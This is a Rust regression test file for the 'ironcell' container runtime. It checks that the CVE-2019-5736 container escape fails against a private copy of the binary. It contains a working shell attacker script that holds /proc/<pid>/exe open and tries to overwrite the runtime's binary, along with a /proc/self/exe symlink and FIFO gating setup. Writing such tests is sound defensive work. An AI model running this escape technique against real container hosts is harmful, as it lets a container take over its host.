//! Regression tests for published container-escape advisories, each
//! reproducing the advisory's mechanism against the real binary.
//!
//! The runtime under test is a private copy of the `ironcell` binary (or of
//! the binary named by `ESCAPE_TEST_RUNTIME`, to show that a test fails on a
//! runtime with the flaw), so that a successful attack overwrites the copy
//! and never the build's own binary.

mod common;

use std::fs;
use std::os::unix::fs::{symlink, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

use common::*;
use serde_json::{json, Value};

/// One test's runtime copy, state root and rootfs.
struct Escape {
    dir: tempfile::TempDir,
    runtime: PathBuf,
    root: PathBuf,
    rootfs: PathBuf,
}

impl Escape {
    fn new() -> Escape {
        let dir = tempfile::Builder::new()
            .prefix("ironcell-escape-")
            .tempdir()
            .unwrap();
        let source = std::env::var_os("ESCAPE_TEST_RUNTIME")
            .map(PathBuf::from)
            .unwrap_or_else(ironcell);
        let bin = dir.path().join("bin");
        fs::create_dir(&bin).unwrap();
        let runtime = bin.join("ironcell");
        fs::copy(&source, &runtime).unwrap();
        let rootfs = dir.path().join("rootfs");
        let status = Command::new("cp")
            .arg("-a")
            .arg(image().join("rootfs"))
            .arg(&rootfs)
            .status()
            .unwrap();
        assert!(status.success());
        copy_shared_libraries(&runtime, &rootfs);
        fs::create_dir_all(rootfs.join("tmp")).unwrap();
        fs::set_permissions(rootfs.join("tmp"), fs::Permissions::from_mode(0o1777)).unwrap();
        Escape {
            root: dir.path().join("state"),
            runtime,
            rootfs,
            dir,
        }
    }

    fn cmd(&self, args: &[&str]) -> Command {
        let mut c = Command::new(&self.runtime);
        c.arg("--root").arg(&self.root).args(args);
        c.stdin(Stdio::null());
        c
    }

    /// Runs to completion and asserts success. Output goes through files:
    /// a detached container would hold a pipe open.
    fn ok(&self, args: &[&str]) -> Output {
        let out = output_via_files(&mut self.cmd(args));
        assert!(
            out.status.success(),
            "{args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        out
    }

    /// A bundle over the shared rootfs running `argv`.
    fn bundle(&self, name: &str, argv: &[&str], edit: impl FnOnce(&mut Value)) -> PathBuf {
        let mut config: Value =
            serde_json::from_str(&fs::read_to_string(image().join("bundle/config.json")).unwrap())
                .unwrap();
        config["root"] = json!({"path": self.rootfs, "readonly": false});
        config["process"]["args"] = json!(argv);
        config["linux"]["cgroupsPath"] = json!(format!("/ironcell-test/{name}"));
        edit(&mut config);
        let dir = self.dir.path().join(name);
        fs::create_dir(&dir).unwrap();
        fs::write(dir.join("config.json"), config.to_string()).unwrap();
        dir
    }

    fn runtime_digest(&self) -> Vec<u8> {
        fs::read(&self.runtime).unwrap()
    }

    /// Waits for the observer's verdict in the rootfs.
    fn result(&self) -> String {
        let path = self.rootfs.join("tmp/result");
        let start = Instant::now();
        loop {
            if let Ok(s) = fs::read_to_string(&path) {
                if s.ends_with('\n') {
                    return s;
                }
            }
            if start.elapsed() > Duration::from_secs(30) {
                let tmp = self.rootfs.join("tmp");
                let files: Vec<String> = fs::read_dir(&tmp)
                    .unwrap()
                    .flatten()
                    .map(|e| e.file_name().to_string_lossy().into_owned())
                    .collect();
                panic!(
                    "the container never wrote its verdict; its /tmp holds {files:?}, err: {:?}",
                    fs::read_to_string(tmp.join("err")).unwrap_or_default()
                );
            }
            std::thread::sleep(Duration::from_millis(20));
        }
    }
}

/// A dynamically linked runtime (a debug build) runs inside the
/// container only with its loader and libraries there: copies them into
/// `rootfs` at their host paths. A static binary needs none.
fn copy_shared_libraries(binary: &Path, rootfs: &Path) {
    let out = Command::new("ldd").arg(binary).output().unwrap();
    for line in String::from_utf8_lossy(&out.stdout).lines() {
        let path = line
            .split_whitespace()
            .find(|w| w.starts_with('/'))
            .map(PathBuf::from);
        if let Some(lib) = path {
            let dst = rootfs.join(lib.strip_prefix("/").unwrap());
            fs::create_dir_all(dst.parent().unwrap()).unwrap();
            fs::copy(&lib, &dst).unwrap();
        }
    }
}

impl Drop for Escape {
    fn drop(&mut self) {
        if let Ok(entries) = fs::read_dir(&self.root) {
            for e in entries.flatten() {
                let id = e.file_name().to_string_lossy().to_string();
                let _ = self
                    .cmd(&["delete", "--force", &id])
                    .stdout(Stdio::null())
                    .stderr(Stdio::null())
                    .status();
            }
        }
    }
}

/// The attacker, as the container's own init (`/bin/sh /attack.sh`, so
/// that its command line does not hold the marker): finds the process
/// whose command line holds `marker` (the runtime's binary running in the
/// container's pid namespace), keeps `/proc/<pid>/exe` open, releases the
/// process (`release`), waits until it no longer runs and the host says
/// `go`, then tries to overwrite the file behind the link, as
/// CVE-2019-5736's exploit does. The verdict goes to /tmp/result.
fn write_attacker(rootfs: &Path, marker: &str, release: &str) {
    let script = format!(
        r#"while :; do
  for d in /proc/[0-9]*; do
    case "$(tr '\0' ' ' < $d/cmdline 2>/dev/null)" in *"{marker}"*) P=${{d#/proc/}}; break 2;; esac
  done
  sleep 0.02
done
if ! (exec 3< /proc/$P/exe) 2>/tmp/err; then echo "NOT-OPENED $(cat /tmp/err)" > /tmp/result; exec sleep 1000; fi
exec 3< /proc/$P/exe
echo opened > /tmp/opened
{release}
while [ -e /proc/$P/exe ]; do sleep 0.02; done
while [ ! -e /tmp/go ]; do sleep 0.02; done
i=0
while [ $i -lt 50 ]; do
  if (echo pwned > /proc/self/fd/3) 2>/tmp/err; then echo WROTE > /tmp/result; exec sleep 1000; fi
  i=$((i + 1)); sleep 0.1
done
echo "REFUSED $(cat /tmp/err)" > /tmp/result
exec sleep 1000
"#
    );
    fs::write(rootfs.join("attack.sh"), script).unwrap();
}

fn assert_refused(e: &Escape, before: &[u8]) {
    let verdict = e.result();
    assert!(
        verdict.starts_with("REFUSED"),
        "the container overwrote the runtime's binary: {verdict}"
    );
    assert!(
        verdict.contains("Read-only file system") || verdict.contains("Operation not permitted"),
        "refused for another reason than a sealed binary: {verdict}"
    );
    assert_eq!(e.runtime_digest(), before, "the runtime's binary changed");
}

/// CVE-2019-5736 through `exec`: a program in the container that is a link
/// to /proc/self/exe runs the runtime's binary inside the container; the
/// container's init opens it through /proc and writes it once the runtime
/// has exited. The exec'd runtime is held in place by a FIFO it opens as
/// its log (the opening blocks until the attacker opens the other end).
#[test]
fn cve_2019_5736_exec_of_proc_self_exe_cannot_overwrite_the_runtime() {
    if !need_root("cve_2019_5736_exec_of_proc_self_exe_cannot_overwrite_the_runtime") {
        return;
    }
    let e = Escape::new();
    symlink("/proc/self/exe", e.rootfs.join("bin/evil")).unwrap();
    nix::unistd::mkfifo(
        &e.rootfs.join("tmp/ironcell-gate"),
        nix::sys::stat::Mode::from_bits_truncate(0o666),
    )
    .unwrap();
    write_attacker(
        &e.rootfs,
        "ironcell-gate",
        "cat /tmp/ironcell-gate > /dev/null",
    );
    let id = unique("cve5736-exec");
    let bundle = e.bundle(&id, &["/bin/sh", "/attack.sh"], |_| {});
    let before = e.runtime_digest();
    e.ok(&["run", "-d", "-b", bundle.to_str().unwrap(), &id]);

    let exec = e
        .cmd(&[
            "exec",
            &id,
            "/bin/evil",
            "--log",
            "/tmp/ironcell-gate",
            "list",
        ])
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .unwrap();
    assert!(
        e.rootfs.join("tmp/opened").exists(),
        "exec ended ({exec}) before the attacker saw it"
    );
    fs::write(e.rootfs.join("tmp/go"), "").unwrap();
    assert_refused(&e, &before);
    e.ok(&["delete", "--force", &id]);
}

/// CVE-2019-5736 through `create`: a container that joins another's pid
/// namespace (a pod sharing its process namespace) has an init that is the
/// runtime's binary until `start`; the other container opens it through
/// /proc while it waits, and writes it once it has been deleted.
#[test]
fn cve_2019_5736_created_container_in_a_shared_pid_namespace_cannot_overwrite_the_runtime() {
    if !need_root(
        "cve_2019_5736_created_container_in_a_shared_pid_namespace_cannot_overwrite_the_runtime",
    ) {
        return;
    }
    let e = Escape::new();
    let victim = unique("cve5736-victim");
    write_attacker(&e.rootfs, &victim, "");
    let id = unique("cve5736-attacker");
    // Reading another process's /proc/<pid>/exe needs ptrace access: the
    // victim's init holds every capability until it starts, so the
    // attacker is a container given CAP_SYS_PTRACE (a debugging sidecar).
    let bundle = e.bundle(&id, &["/bin/sh", "/attack.sh"], |c| {
        for set in ["bounding", "effective", "permitted"] {
            c["process"]["capabilities"][set]
                .as_array_mut()
                .unwrap()
                .push(json!("CAP_SYS_PTRACE"));
        }
    });
    let before = e.runtime_digest();
    e.ok(&["run", "-d", "-b", bundle.to_str().unwrap(), &id]);
    let state: Value = serde_json::from_slice(&e.ok(&["state", &id]).stdout).unwrap();
    let pid = state["pid"].as_i64().unwrap();

    let vbundle = e.bundle(&victim, &["/bin/true"], |c| {
        // libcontainer's cgroup v1 mount reads /proc/<own pid> through the
        // host's /proc, which names another process in a joined pid
        // namespace (a libcontainer bug not fixed yet); this test is about
        // the init's binary, not the cgroup mount.
        c["mounts"]
            .as_array_mut()
            .unwrap()
            .retain(|m| m["type"] != "cgroup");
        let ns = c["linux"]["namespaces"].as_array_mut().unwrap();
        for n in ns.iter_mut() {
            if n["type"] == "pid" {
                n["path"] = json!(format!("/proc/{pid}/ns/pid"));
            }
        }
    });
    e.ok(&["create", "-b", vbundle.to_str().unwrap(), &victim]);
    wait_until(|| e.rootfs.join("tmp/opened").exists() || e.rootfs.join("tmp/result").exists());
    assert!(
        e.rootfs.join("tmp/opened").exists(),
        "the attacker could not open the victim's binary: {}",
        e.result()
    );
    e.ok(&["delete", "--force", &victim]);
    fs::write(e.rootfs.join("tmp/go"), "").unwrap();
    assert_refused(&e, &before);
    e.ok(&["delete", "--force", &id]);
}
